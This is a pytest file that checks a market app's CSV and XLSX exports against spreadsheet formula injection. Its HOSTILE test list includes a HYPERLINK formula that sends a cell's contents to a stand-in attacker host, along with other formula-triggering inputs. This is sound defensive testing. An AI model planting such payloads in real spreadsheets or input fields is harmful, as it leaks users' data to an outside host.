"""Formula injection: no export lets a cell's text become a live formula (issue 17, item 4)."""

from __future__ import annotations

import csv
import doctest
import io
import zipfile

import pytest
from openpyxl import load_workbook

from market import spreadsheets
from market.extensions import db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_doctests():
    assert doctest.testmod(spreadsheets).failed == 0


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert spreadsheets.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Rau củ", "", "0912345678", "A-01", -5, 12.5, None])
def test_other_values_are_kept(value):
    assert spreadsheets.safe_cell(value) == value


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes) -> tuple[list[list], bytes]:
    """The values openpyxl reads back, and the raw sheet XML (to look for formulas)."""
    book = load_workbook(io.BytesIO(body))
    values = [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = b"".join(
            archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        )
    return values, xml


def test_xlsx_writes_text_as_strings_never_formulas():
    values, xml = _xlsx_cells(spreadsheets.to_xlsx([("x", [HOSTILE, [1, -2]])]))
    assert b"<f>" not in xml and b"<f " not in xml
    # (XML reads a carriage return back as a line feed: the last cell is compared apart.)
    assert values[0][:-1] == ["'" + t for t in HOSTILE[:-1]]
    assert values[0][-1] in ("'\r=1", "'\n=1")
    assert values[1][:2] == [1, -2]  # numbers stay numbers


def _hostile_registry(world):
    world.merchant_a.full_name = HOSTILE[0]
    world.stall_a.zone = "=1+2"
    db.session.commit()


def test_registry_csv_export_is_neutralised(world, client, auth):
    _hostile_registry(world)
    auth.login("manager")
    header, row = _csv(client.get("/markets/TN-A/export.csv").data)
    assert row[header.index("khu")] == "'=1+2"
    assert row[header.index("ho_ten")] == "'" + HOSTILE[0]


def test_registry_xlsx_export_is_neutralised(world, client, auth):
    _hostile_registry(world)
    auth.login("manager")
    values, xml = _xlsx_cells(client.get("/markets/TN-A/export.xlsx").data)
    assert b"<f>" not in xml and b"<f " not in xml
    header, row = values[0], values[1]
    assert row[header.index("khu")] == "'=1+2"
    assert row[header.index("ho_ten")] == "'" + HOSTILE[0]
